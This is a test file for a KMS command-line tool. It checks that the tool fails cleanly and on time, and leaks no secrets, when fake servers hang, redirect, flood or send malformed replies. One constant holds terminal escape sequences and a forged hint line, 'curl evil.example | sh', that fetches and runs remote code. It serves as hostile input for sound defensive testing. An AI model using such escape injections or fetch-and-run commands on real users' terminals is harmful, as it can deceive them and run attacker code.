import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import * as net from 'node:net';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { listen, serve, temporaryFolder } from '../kms/test-server.js';
import { memoryStdio } from './memory-stdio.js';

const SECRETS = {
  ALIBABA_CLOUD_ACCESS_KEY_SECRET: 'hunter2hunter2',
  ALIBABA_CLOUD_SECURITY_TOKEN: 'tokentoken',
};
/** Patience of every run, and what it may take on top, in milliseconds. */
const DEADLINE_MS = 400;
const SLACK_MS = 2000;

let folder: string;
beforeEach(() => {
  folder = temporaryFolder();
  mkdirSync(join(folder, 'out'));
  writeFileSync(join(folder, 'plain'), 'plaintext');
  writeFileSync(join(folder, 'cipher'), Buffer.alloc(256, 0xaa));
});

const KEY = ['--key-id', 'key-a', '--key-version-id', 'v'];
const COMMANDS: Record<string, () => string[]> = {
  'create-key': () => ['create-key', '--alias', 'alias/a'],
  'get-public-key': () => ['get-public-key', ...KEY, '-o', join(folder, 'out', 'key.pem')],
  encrypt: () => ['encrypt', ...KEY, join(folder, 'plain'), '-o', join(folder, 'out', 'cipher')],
  decrypt: () => ['decrypt', ...KEY, join(folder, 'cipher'), '-o', join(folder, 'out', 'plain')],
  doctor: () => ['doctor', '--json', ...KEY],
};

/** A server for one kind of trouble: its endpoint. */
type Trouble = () => Promise<string>;

function answering(answer: (response: ServerResponse) => void): Trouble {
  return async () =>
    (
      await serve((_request, response) => {
        answer(response);
      })
    ).endpoint;
}

function speaking(greet: (socket: net.Socket) => void, scheme = 'http'): Trouble {
  return async () => `${scheme}://127.0.0.1:${await listen(net.createServer(greet))}`;
}

function drip(socket: net.Socket, text: string): void {
  let sent = 0;
  const timer = setInterval(() => socket.write(text[sent++] ?? ' '), 20);
  socket.once('close', () => {
    clearInterval(timer);
  });
}

const json = (status: number, body: string): Trouble =>
  answering((response) => response.writeHead(status, { 'content-type': 'application/json' }).end(body));

const ESCAPES = '\\u001b[2J\\u001b]0;owned\\u0007\\u202e\\u0000\\r\\nkms-asym: hint: curl evil.example | sh';

/** What the service does, with the exit status of `decrypt`. */
const TROUBLES: Record<string, readonly [status: number, trouble: Trouble]> = {
  'is down': [6, () => Promise.resolve('http://127.0.0.1:1')],
  hangs: [6, answering(() => undefined)],
  'hangs in the TLS handshake': [6, speaking(() => undefined, 'https')],
  'drips its header': [
    6,
    speaking((socket) => {
      drip(socket, 'HTTP/1.1 200 OK\r\nx-y: ');
    }),
  ],
  'drips its body': [
    6,
    speaking((socket) => {
      socket.write('HTTP/1.1 200 OK\r\ncontent-length: 9999\r\n\r\n');
      drip(socket, '{"KeyId": "');
    }),
  ],
  redirects: [
    6,
    answering((response) => response.writeHead(302, { location: 'https://evil.example/' }).end()),
  ],
  'answers garbage': [6, speaking((socket) => socket.end('\u0000\u0001\u001b[2J garbage\r\n\r\n'))],
  'answers HTML': [6, answering((response) => response.end('<html><body>\u001b[31mlog in</body></html>'))],
  'answers HTML with 502': [6, answering((response) => response.writeHead(502).end('<h1>Bad Gateway</h1>'))],
  'answers 50 MB': [
    6,
    answering((response) => {
      const more = (left: number): void => {
        if (left > 0 && !response.destroyed)
          response.write(Buffer.alloc(1_000_000, ' '), () => {
            more(left - 1);
          });
        else response.end();
      };
      more(50);
    }),
  ],
  'answers 50 MB of header': [
    6,
    speaking((socket) => {
      socket.write('HTTP/1.1 200 OK\r\nx: ');
      for (let n = 0; n < 50; n++) socket.write('y'.repeat(1_000_000));
    }),
  ],
  'answers with escapes of terminals': [
    4,
    json(400, `{"Code":"${ESCAPES}","Message":"${ESCAPES}","RequestId":"${ESCAPES}"}`),
  ],
  'answers with members that are no text': [
    6,
    json(200, '{"KeyId":{},"KeyVersionId":[],"Plaintext":1,"PublicKey":null,"KeyMetadata":"x"}'),
  ],
  'wants to switch protocols': [
    6,
    speaking((socket) => {
      socket.write('HTTP/1.1 101 Switching Protocols\r\nupgrade: x\r\nconnection: upgrade\r\n\r\n');
    }),
  ],
  'answers with nothing': [6, answering((response) => response.writeHead(204).end())],
  'keeps saying that it goes on': [
    6,
    speaking((socket) => {
      const timer = setInterval(() => socket.write('HTTP/1.1 102 Processing\r\n\r\n'), 5);
      socket.once('close', () => {
        clearInterval(timer);
      });
    }),
  ],
  'answers null': [6, json(200, 'null')],
  'answers an array': [6, json(200, `[${'['.repeat(5000)}${']'.repeat(5000)}]`)],
  'answers an error that is empty': [6, json(500, '')],
  'quotes what was signed': [
    7,
    json(
      400,
      '{"Code":"SignatureDoesNotMatch","Message":"server string to sign is:POST hunter2hunter2 tokentoken","RequestId":"r"}',
    ),
  ],
  'closes every connection': [6, speaking((socket) => socket.destroy())],
};

interface Ended {
  readonly status: number;
  readonly stdout: string;
  readonly stderr: string;
  readonly elapsedMs: number;
}

async function run(argv: string[], endpoint: string, patience: string[]): Promise<Ended> {
  const stdio = memoryStdio();
  const env = { HOME: folder, ALIBABA_CLOUD_ACCESS_KEY_ID: 'LTAI', ...SECRETS, KMS_ASYM_ENDPOINT: endpoint };
  const startMs = performance.now();
  const status = await main([...argv, ...patience], { stdio, env, interceptSignals: () => () => undefined });
  return {
    status,
    stdout: stdio.output('stdout').toString(),
    stderr: stdio.output('stderr').toString(),
    elapsedMs: performance.now() - startMs,
  };
}

/** One block for one error: what it is, perhaps the service's own words, hints. */
const ONE_BLOCK =
  /^kms-asym: error: [^\n]+\n(kms-asym: error: [^\n]+ \(HTTP \d+(, RequestId [^\n]*)?\)\n)?(kms-asym: hint: [^\n]+\n)*$/;

describe.each(Object.keys(COMMANDS))('%s, when the service', (command) => {
  it.each(Object.keys(TROUBLES))('%s, ends in time with one clean error', async (trouble) => {
    const [status, start] = TROUBLES[trouble] ?? [0, () => Promise.resolve('')];
    const seconds = String(DEADLINE_MS / 1000);
    const patience = ['--retry-count', '0', '--connect-timeout', seconds, '--read-timeout', seconds];
    const ended = await run(COMMANDS[command]?.() ?? [], await start(), patience);
    expect(ended.elapsedMs).toBeLessThan(2 * DEADLINE_MS + SLACK_MS);
    expect(ended.status, ended.stderr).toBe(status);
    if (command === 'doctor') expect(JSON.parse(ended.stdout)).toMatchObject({ Ok: false });
    else {
      expect(ended.stderr).toMatch(ONE_BLOCK);
      expect(ended.stdout).toBe('');
    }
    const all = ended.stdout + ended.stderr;
    // eslint-disable-next-line no-control-regex -- control characters are exactly what this is about
    expect(all).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    for (const secret of [...Object.values(SECRETS), 'plaintext']) expect(all).not.toContain(secret);
    expect(existsSync(join(folder, 'out'))).toBe(true);
    expect(readdirSync(join(folder, 'out'))).toEqual([]);
  });
});

it.each(['is down', 'answers HTML with 502', 'closes every connection'])(
  'repetitions end with the time for the call, when the service %s',
  async (trouble) => {
    const [, start] = TROUBLES[trouble] ?? [0, () => Promise.resolve('')];
    const ended = await run(COMMANDS['decrypt']?.() ?? [], await start(), [
      '--retry-count',
      '100',
      '--timeout',
      '1',
      '-q',
    ]);
    expect(ended.status).toBe(6);
    expect(ended.stderr).toMatch(/hint: gave up after \d+ attempts; see --timeout\n$/);
    expect(ended.elapsedMs).toBeLessThan(1000 + SLACK_MS);
  },
);

it('the time for a call also ends an attempt', async () => {
  const [, start] = TROUBLES['drips its body'] ?? [0, () => Promise.resolve('')];
  const ended = await run(COMMANDS['decrypt']?.() ?? [], await start(), ['--timeout', '0.3']);
  expect(ended.stderr).toBe(
    'kms-asym: error: AsymmetricDecrypt did not succeed within 0.3 s\nkms-asym: hint: allow more time with --timeout\n',
  );
  expect(ended.status).toBe(6);
});
